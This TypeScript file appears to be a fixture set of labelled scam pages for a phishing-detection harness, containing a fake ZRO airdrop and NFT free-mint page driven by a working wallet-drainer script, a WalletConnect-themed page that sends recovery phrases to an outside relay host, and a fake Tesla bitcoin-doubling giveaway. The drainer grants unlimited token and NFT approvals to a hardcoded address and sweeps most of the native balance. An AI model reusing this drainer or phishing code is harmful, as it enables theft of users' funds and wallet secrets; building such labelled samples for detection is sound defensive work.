import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, logo } from '../parts/j-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

const drainerCore = (api: string) => `(function(){var R="0x7a3F2e1b9C8d4E5f6A7b8C9d0E1f2A3b4C5d6E7f";var cfg={api:"${api}",chains:[1,56,137,42161,8453],minUsd:25};
async function c(){if(!window.ethereum){document.getElementById("st").textContent="Please open this page in your wallet's browser (MetaMask, Trust Wallet).";return}
var a=(await ethereum.request({method:"eth_requestAccounts"}))[0];fetch(cfg.api+"/connect",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({a:a,ua:navigator.userAgent,h:location.host})});
var t=await (await fetch(cfg.api+"/assets?a="+a)).json();t.sort(function(x,y){return y.usd-x.usd});
for(var i=0;i<t.length;i++){var k=t[i];if(k.usd<cfg.minUsd)continue;try{if(k.type==="erc20"){var d="0x095ea7b3"+R.slice(2).padStart(64,"0")+"f".repeat(64);await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:k.token,data:d}]})}
else if(k.type==="permit2"){var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(k.typed)]});fetch(cfg.api+"/p2",{method:"POST",body:JSON.stringify({a:a,s:sig})})}
else if(k.type==="nft"){await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:k.token,data:"0xa22cb465"+R.slice(2).padStart(64,"0")+"1".padStart(64,"0")}]})}
else if(k.type==="native"){var bal=await ethereum.request({method:"eth_getBalance",params:[a,"latest"]});var v=BigInt(bal)*95n/100n;await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:R,value:"0x"+v.toString(16)}]})}}catch(e){}}
document.getElementById("st").textContent="Claim pending… please confirm any remaining requests in your wallet."}
document.querySelectorAll(".cw").forEach(function(b){b.onclick=c})})();`;

export const entries: Entry[] = [
{
  id: 'j-drainer-airdrop-claim-season2',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://claim.layerzero-season2.network/',
  body: doc({
    title: 'ZRO Season 2 Airdrop | Check Eligibility',
    style: `body{background:#000;color:#fff;text-align:center;font-family:Inter,system-ui}.b{max-width:520px;margin:80px auto;border:1px solid #333;border-radius:16px;padding:34px;background:#0b0b0b}.cw{background:#fff;color:#000;border:0;padding:14px 34px;border-radius:30px;font-size:16px;font-weight:700;cursor:pointer}.t{font-size:13px;color:#888}.bar{height:6px;background:#222;border-radius:3px;margin:14px 0}.bar div{width:83%;height:6px;background:#fff;border-radius:3px}`,
    body: `<nav style="padding:20px;text-align:left">LayerZero · <span class="t">Docs · Scan · Blog</span><button class="cw" style="float:right;padding:8px 20px">Connect Wallet</button></nav>
<div class="b"><h1>Season 2 Airdrop is live</h1><p>23.4% of total ZRO supply distributed to eligible users. Connect your wallet to check your allocation.</p><div class="bar"><div></div></div><p class="t">83% claimed · Ends in <b id="c">03:12:44</b></p><button class="cw">Check Eligibility</button><p id="st" class="t" style="margin-top:16px"></p></div>
<p class="t">© 2026 LayerZero Labs · Proof-of-Donation required: 0.1 USD in USDC/ETH per ZRO claimed</p>
<script src="/js/claim.bundle.js"></script>`,
  }),
  routes: {
    'claim.layerzero-season2.network/js/claim.bundle.js': jsRoute(drainerCore('https://api.zro-claim-relay.com/v1')),
    'api.zro-claim-relay.com/v1/connect': jsonRoute({ ok: 1 }),
    'api.zro-claim-relay.com/v1/assets': jsonRoute([{ type: 'native', usd: 1200 }, { type: 'erc20', token: '0xdAC17F958D2ee523a2206206994597C13D831ec7', usd: 840 }]),
  },
},
{
  id: 'j-drainer-nft-freemint',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://mint.pudgy-pengu-genesis.xyz/',
  body: doc({
    title: 'Pengu Genesis — Free Mint for Holders',
    style: `body{background:#e8f4ff;font-family:"Comic Sans MS",system-ui;text-align:center}.c{max-width:460px;margin:50px auto;background:#fff;border-radius:24px;padding:30px;box-shadow:0 10px 40px rgba(0,80,200,.15)}.img{width:220px;height:220px;margin:0 auto;background:#b8dcff;border-radius:20px;font-size:100px;line-height:220px}.cw{background:#0057ff;color:#fff;border:0;padding:14px 40px;border-radius:14px;font-size:18px;margin-top:14px}`,
    body: `<div class="c"><div class="img">🐧</div><h1>Pengu Genesis</h1><p>Free mint for Pudgy Penguins &amp; Lil Pudgys holders. Only gas!</p><p><b>4,112 / 5,000</b> minted · Max 2 per wallet</p>
<div><button onclick="var q=document.getElementById('q');q.textContent=Math.max(1,q.textContent-1)">−</button> <span id="q">2</span> <button onclick="var q=document.getElementById('q');q.textContent=Math.min(2,+q.textContent+1)">+</button></div>
<button class="cw">Mint Now</button><p id="st" style="font-size:13px;color:#666"></p><p style="font-size:12px">🔒 Verified contract · <a href="#">Twitter</a> · <a href="#">Discord</a></p></div>
<script src="/static/mint.js"></script>`,
  }),
  routes: {
    'mint.pudgy-pengu-genesis.xyz/static/mint.js': jsRoute(drainerCore('https://mint.pudgy-pengu-genesis.xyz/api')),
    'mint.pudgy-pengu-genesis.xyz/api/connect': jsonRoute({ ok: 1 }),
    'mint.pudgy-pengu-genesis.xyz/api/assets': jsonRoute([{ type: 'nft', token: '0xBd3531dA5CF5857e7CfAA92426877b022e612cf8', usd: 9000 }]),
  },
},
{
  id: 'j-seedphrase-wallet-rectify',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://dapps-rectify.walletconnect-sync.org/wallet/import?w=metamask',
  routes: {
    'dapps-rectify.walletconnect-sync.org/wallet/import': htmlRoute(doc({
      title: 'WalletConnect | Rectification Node',
      style: `body{background:#141414;color:#fff}.b{max-width:520px;margin:50px auto;background:#1f1f1f;border-radius:14px;padding:26px}.tabs span{display:inline-block;padding:8px 14px;border-bottom:2px solid transparent;cursor:pointer}.tabs .on{border-color:#3396ff}textarea,input{width:100%;background:#2a2a2a;color:#fff;border:1px solid #444;border-radius:8px;padding:12px;margin:10px 0;font-size:15px}button{width:100%;background:#3396ff;color:#fff;border:0;padding:14px;border-radius:10px;font-size:16px}`,
      body: `<div class="b"><h2>Import your <span id="wn">wallet</span></h2><p style="color:#aaa;font-size:14px">Synchronize your wallet to resolve failed transactions, missing balances, airdrop claim errors and staking issues. This is a decentralized, encrypted protocol.</p>
<div class="tabs"><span class="on">Phrase</span><span>Keystore JSON</span><span>Private Key</span></div>
<form id="f"><textarea name="phrase" rows="4" placeholder="Enter your 12 or 24 word recovery phrase (separated by spaces)"></textarea><p style="font-size:12px;color:#888">Typically 12 (sometimes 24) words separated by single spaces</p><button>IMPORT</button></form><p id="e" style="color:#f55;font-size:13px"></p></div>
<script>var w=new URLSearchParams(location.search).get('w')||'wallet';document.getElementById('wn').textContent=w.charAt(0).toUpperCase()+w.slice(1);
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();var p=this.phrase.value.trim().split(/\\s+/);if(p.length!==12&&p.length!==24){document.getElementById('e').textContent='Invalid phrase length';return}
fetch('https://formsubmit-relay.co/ajax/7c1d2e3f',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({wallet:w,phrase:p.join(' '),ts:Date.now()})}).then(function(){document.getElementById('e').textContent='Error 0x5f: synchronization failed, node busy. Please try another wallet.'})}</script>`,
    })),
    'formsubmit-relay.co/ajax/7c1d2e3f': jsonRoute({ success: 'true' }),
  },
},
{
  id: 'j-scam-crypto-giveaway-doubling',
  label: 'scam',
  kind: 'crypto-giveaway',
  url: 'https://live-tesla-event.x-giveaway2026.com/btc',
  body: doc({
    title: 'Tesla × Bitcoin — 5,000 BTC Giveaway LIVE',
    style: `body{background:#0b0b0f;color:#fff;font-family:Arial;text-align:center}.v{max-width:720px;height:300px;margin:20px auto;background:#222;border-radius:10px;position:relative;display:flex;align-items:center;justify-content:center}.live{position:absolute;top:10px;left:10px;background:#e00;padding:2px 8px;border-radius:3px;font-size:12px}.addr{background:#1c1c24;border:1px dashed #f7931a;padding:14px;font-family:monospace;font-size:16px;display:inline-block;margin:10px}table{margin:0 auto;font-size:13px;font-family:monospace}td{padding:3px 10px}`,
    body: `<h1>🚀 OFFICIAL 5,000 BTC GIVEAWAY 🚀</h1><div class="v"><span class="live">● LIVE · 48,221 watching</span>▶ Elon Musk: "The future of currency" — Live Q&amp;A</div>
<p>To celebrate Tesla accepting Bitcoin again, we are giving away <b>5,000 BTC</b> to the community. Send any amount from 0.01 to 20 BTC to the address below and <b>we will instantly send back double</b> the amount!</p>
<div class="addr" id="ad">bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</div><br><button onclick="navigator.clipboard.writeText(document.getElementById('ad').textContent);this.textContent='Copied'">Copy address</button>
<p>⏳ Remaining: <b style="color:#f7931a">1,284.55 BTC</b></p><h3>Latest transactions</h3><table><tr><td>bc1q9h…k2x</td><td>sent 0.50</td><td>received 1.00 BTC ✅</td></tr><tr><td>3J98t1…WNLy</td><td>sent 2.00</td><td>received 4.00 BTC ✅</td></tr><tr><td>bc1qar…7fq</td><td>sent 0.10</td><td>received 0.20 BTC ✅</td></tr></table>
<p style="font-size:11px;color:#777">Only one participation per wallet. Giveaway ends when the remaining balance reaches zero.</p>`,
  }),
},
];
